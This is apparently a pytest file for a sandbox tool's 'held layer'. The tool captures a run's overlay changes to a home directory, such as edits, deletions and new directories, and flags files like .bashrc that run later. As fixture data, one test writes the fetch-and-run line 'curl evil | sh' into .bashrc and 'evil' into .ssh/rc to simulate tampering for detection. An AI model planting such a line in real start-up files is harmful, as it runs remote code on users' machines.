"""What the orchestrator reads back from a run's held layer
(stages/orchestrator/held.py): an upper directory laid out as overlay lays
it out, on this machine's file system, walked into held.json, the record's
files.held and one line; a layer that held nothing removed."""
from __future__ import annotations

import json
import os
import stat

import pytest

from stages.config.work_set import held_line
from stages.orchestrator import held
from stages.record.check import schema_problems
from stages.record.events import encode, parse_line


@pytest.fixture
def layer(tmp_path):
    """A real tree (the lower) and a held directory whose one layer covers it."""
    real = tmp_path / "home"
    (real / ".ssh").mkdir(parents=True)
    (real / ".ssh" / "authorized_keys").write_text("mine\n")
    (real / ".config").mkdir()
    (real / ".bashrc").write_text("# mine\n")
    (real / "gone.txt").write_text("x")
    d = tmp_path / "state" / "vpnw" / "held" / "r-1"
    upper = d / "layers" / "0" / "upper"
    (d / "layers" / "0" / "work" / "work").mkdir(parents=True)
    upper.mkdir()
    (d / "layers.json").write_text(json.dumps([{"mount": str(real), "upper": "layers/0/upper"}]))
    ws = held.ws.WorkSet(("/tmp",))
    return held.HeldLayer(ws, str(d), str(d.parent), None, (str(real),)), real, upper


def _whiteout(path) -> None:
    os.mknod(path, stat.S_IFCHR | 0o000, os.makedev(0, 0))


def test_the_walk_names_files_deletions_opaque_and_new_directories(layer):
    lay, real, upper = layer
    (upper / ".bashrc").write_text("curl evil | sh\n")          # changed
    _whiteout(upper / "gone.txt")                                 # deleted
    (upper / ".ssh").mkdir()                                      # removed and made again
    os.setxattr(upper / ".ssh", "user.overlay.opaque", b"y")
    (upper / ".ssh" / "rc").write_text("evil\n")
    (upper / ".config").mkdir()                                   # copied up only
    (upper / ".config" / "new").mkdir()                           # new
    (upper / ".config" / "new" / "f").write_text("f")
    os.mkfifo(upper / ".config" / "fifo")                         # never opened
    found = held.collect(lay, "r-1", (str(real),), (), ())
    kinds = {e["path"][len(str(real)) + 1:]: e["kind"] for e in found.entries}
    assert kinds == {".bashrc": "file", "gone.txt": "deleted", ".ssh": "opaque-dir", ".ssh/rc": "file",
                     ".config/new": "dir", ".config/new/f": "file", ".config/fifo": "file"}
    doc = json.loads(open(os.path.join(lay.dir, "held.json")).read())
    assert doc["v"] == 1 and doc["run"] == "r-1" and doc["truncated"] is False
    bashrc = next(e for e in doc["entries"] if e["path"].endswith(".bashrc"))
    assert bashrc["runs_later"] == "shell start-up" and bashrc["size"] == 15
    assert bashrc["before"]["exists"] and bashrc["before"]["size"] == 7 and bashrc["before"]["sha256"]
    assert bashrc["sha256"] != bashrc["before"]["sha256"]
    assert next(e for e in doc["entries"] if e["path"].endswith("fifo"))["sha256"] is None
    assert [e["path"] for e in doc["entries"]] == sorted(e["path"] for e in doc["entries"])
    assert (real / ".bashrc").read_text() == "# mine\n"


def test_the_record_event_is_one_valid_line_however_much_was_held(layer):
    lay, real, upper = layer
    for i in range(300):
        (upper / f"file-{i:03d}-{'x' * 60}").write_text("x")
    (upper / ".bashrc").write_text("evil\n")
    found = held.collect(lay, "r-1", (str(real),), (), ())
    fields = held.record_fields(found)
    assert fields["entries"][0]["path"].endswith(".bashrc")        # what runs later first
    assert fields["count"] == 301 and fields["unlisted"] == 301 - len(fields["entries"])
    line = encode("r-1", "files.held", fields)
    event = parse_line(line)
    assert event["fields"] != {"truncated": True} and schema_problems(event) == []
    assert "~/.bashrc (shell start-up)" in held_line(found.entries, "r-1", (str(real),))


def test_a_layer_that_held_nothing_leaves_nothing(layer):
    lay, real, upper = layer
    found = held.collect(lay, "r-1", (str(real),), (), ())
    assert found.empty and found.entries == []
    os.chmod(os.path.join(lay.dir, "layers", "0", "work", "work"), 0)   # as overlay leaves it
    held.remove(lay.dir)
    assert not os.path.exists(lay.dir)


def test_init_writes_layers_json_as_json_writes_it_without_the_json_package():
    from stages.helper.held_layer import _layers_json
    mounted = [('/srv/a "b" \\ c\n', "layers/0/upper"), ("/home/é x", "layers/1/upper")]
    assert _layers_json(mounted) == json.dumps(
        [{"mount": m, "upper": u} for m, u in mounted], ensure_ascii=False) + "\n"
    assert _layers_json([]) == "[]\n"

